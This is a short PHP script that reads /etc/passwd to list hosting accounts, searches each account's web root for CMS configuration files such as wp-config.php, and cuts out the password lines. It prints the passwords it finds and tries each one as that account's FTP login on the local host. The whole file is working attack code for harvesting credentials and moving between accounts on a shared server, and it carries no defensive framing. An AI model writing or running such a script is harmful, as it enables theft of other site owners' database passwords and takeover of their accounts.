<?php
// Walks every account in the system account list, looks under each one's web root for
// database configuration files, cuts the password line out and tries it as that account's FTP
// password on this host.
@set_time_limit(0);
$accounts = array();
$fh = @fopen('/etc/passwd', 'r');
while ($fh && ($row = fgets($fh)) !== false) {
    $name = strtok($row, ':');
    if ($name !== '' && is_readable("/home/$name/public_html")) {
        $accounts[] = $name;
    }
}
$wanted = array('wp-config.php', 'configuration.php', 'config.inc.php', 'settings.php');

function sweep($dir, $owner, $wanted)
{
    foreach ((array) @scandir($dir) as $entry) {
        if ($entry === '.' || $entry === '..') {
            continue;
        }
        $full = $dir . '/' . $entry;
        if (is_dir($full)) {
            sweep($full, $owner, $wanted);
        } elseif (in_array($entry, $wanted, true)) {
            foreach (file($full) as $line) {
                if (stristr($line, 'password')) {
                    $secret = trim(substr($line, strpos($line, ',') + 1), " '\");\r\n");
                    echo $owner . ' ' . $full . ' ' . $secret . "\n";
                    $link = @ftp_connect('127.0.0.1');
                    if ($link && @ftp_login($link, $owner, $secret)) {
                        echo "  ftp ok\n";
                    }
                }
            }
        }
    }
}

foreach ($accounts as $owner) {
    sweep("/home/$owner/public_html", $owner, $wanted);
}
